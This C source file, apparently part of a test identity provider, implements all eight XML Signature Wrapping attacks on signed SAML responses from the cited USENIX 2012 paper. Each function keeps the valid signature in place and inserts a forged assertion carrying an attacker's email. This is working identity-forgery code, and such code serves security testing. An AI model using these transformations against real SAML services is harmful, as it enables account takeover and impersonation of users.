/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The eight ways to wrap a signed SAML message that Somorovsky, Mayer, Schwenk, Kampmann and Jensen describe
 * in "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012). Each keeps the signed element
 * intact somewhere in the document and puts a forged one where a careless reader looks. */
#include "idp-wrapping.h"

#include "idp-answer.h"
#include "idp-key.h"
#include "idp-xml.h"

static xmlNode *
get_signature (xmlNode *element)
{
  return idp_xml_lookup_child (element, IDP_NS_DSIG, "Signature");
}

static xmlNode *
get_assertion (xmlNode *response)
{
  return idp_xml_lookup_child (response, IDP_NS_ASSERTION, "Assertion");
}

static xmlNode *
copy_without_signature (xmlNode *element)
{
  xmlNode *copy = xmlDocCopyNode (element, element->doc, 1);
  xmlNode *signature = get_signature (copy);

  xmlUnlinkNode (signature);
  xmlFreeNode (signature);
  return copy;
}

static void
forge_id (xmlNode *element)
{
  g_autofree char *hex = idp_random_hex (16);
  g_autofree char *id = g_strconcat ("_evil", hex, NULL);

  xmlSetProp (element, BAD_CAST "ID", BAD_CAST id);
}

static xmlNode *
forge_assertion (xmlNode *assertion)
{
  xmlNode *name_id = idp_xml_lookup_below (assertion, IDP_NS_ASSERTION, "NameID");
  /* The first attribute is always the email address. */
  xmlNode *email = idp_xml_lookup_below (assertion, IDP_NS_ASSERTION, "AttributeValue");

  forge_id (assertion);
  xmlNodeSetContent (name_id, BAD_CAST IDP_EVIL_EMAIL);
  xmlNodeSetContent (email, BAD_CAST IDP_EVIL_EMAIL);
  return assertion;
}

static void
forge_response (xmlNode *response)
{
  forge_id (response);
  forge_assertion (get_assertion (response));
}

/**
 * idp_wrapping_forged_response_around_original_in_signature:
 * @response: a signed Response
 *
 * XSW1: the root is forged and has the signature, which has the original Response inside.
 */
void
idp_wrapping_forged_response_around_original_in_signature (xmlNode *response)
{
  xmlNode *original = copy_without_signature (response);

  forge_response (response);
  xmlAddChild (get_signature (response), original);
}

/**
 * idp_wrapping_forged_response_beside_original:
 * @response: a signed Response
 *
 * XSW2: the root is forged and has the signature and, before it, the original Response.
 */
void
idp_wrapping_forged_response_beside_original (xmlNode *response)
{
  xmlNode *original = copy_without_signature (response);

  forge_response (response);
  xmlAddPrevSibling (get_signature (response), original);
}

/**
 * idp_wrapping_forged_assertion_before_original:
 * @response: a Response with a signed Assertion
 *
 * XSW3: a forged assertion without signature comes before the original.
 */
void
idp_wrapping_forged_assertion_before_original (xmlNode *response)
{
  xmlNode *assertion = get_assertion (response);

  xmlAddPrevSibling (assertion, forge_assertion (copy_without_signature (assertion)));
}

/**
 * idp_wrapping_forged_assertion_around_original:
 * @response: a Response with a signed Assertion
 *
 * XSW4: a forged assertion without signature has the original inside.
 */
void
idp_wrapping_forged_assertion_around_original (xmlNode *response)
{
  xmlNode *assertion = get_assertion (response);
  xmlNode *forged = forge_assertion (copy_without_signature (assertion));

  xmlAddNextSibling (assertion, forged);
  xmlUnlinkNode (assertion);
  xmlAddChild (forged, assertion);
}

/**
 * idp_wrapping_forged_assertion_with_signature_before_original:
 * @response: a Response with a signed Assertion
 *
 * XSW5: the forged assertion has the signature, the original without it follows.
 */
void
idp_wrapping_forged_assertion_with_signature_before_original (xmlNode *response)
{
  xmlNode *assertion = get_assertion (response);
  xmlNode *original = copy_without_signature (assertion);

  forge_assertion (assertion);
  xmlAddChild (response, original);
}

/**
 * idp_wrapping_forged_assertion_with_original_in_signature:
 * @response: a Response with a signed Assertion
 *
 * XSW6: the forged assertion has the signature, which has the original inside.
 */
void
idp_wrapping_forged_assertion_with_original_in_signature (xmlNode *response)
{
  xmlNode *assertion = get_assertion (response);
  xmlNode *original = copy_without_signature (assertion);

  forge_assertion (assertion);
  xmlAddChild (get_signature (assertion), original);
}

/**
 * idp_wrapping_forged_assertion_in_extensions:
 * @response: a Response with a signed Assertion
 *
 * XSW7: the forged assertion is in Extensions, where the schema lets anything pass.
 */
void
idp_wrapping_forged_assertion_in_extensions (xmlNode *response)
{
  xmlNode *assertion = get_assertion (response);
  xmlNode *status = idp_xml_lookup_child (response, IDP_NS_PROTOCOL, "Status");
  xmlNode *extensions = xmlNewDocNode (response->doc, response->ns, BAD_CAST "Extensions", NULL);

  xmlAddPrevSibling (status, extensions);
  xmlAddChild (extensions, forge_assertion (copy_without_signature (assertion)));
}

/**
 * idp_wrapping_forged_assertion_with_original_in_object:
 * @response: a Response with a signed Assertion
 *
 * XSW8: the forged assertion has the signature, which has the original in an Object.
 */
void
idp_wrapping_forged_assertion_with_original_in_object (xmlNode *response)
{
  xmlNode *assertion = get_assertion (response);
  xmlNode *original = copy_without_signature (assertion);

  forge_assertion (assertion);
  xmlAddChild (idp_xml_add (get_signature (assertion), "Object", NULL), original);
}
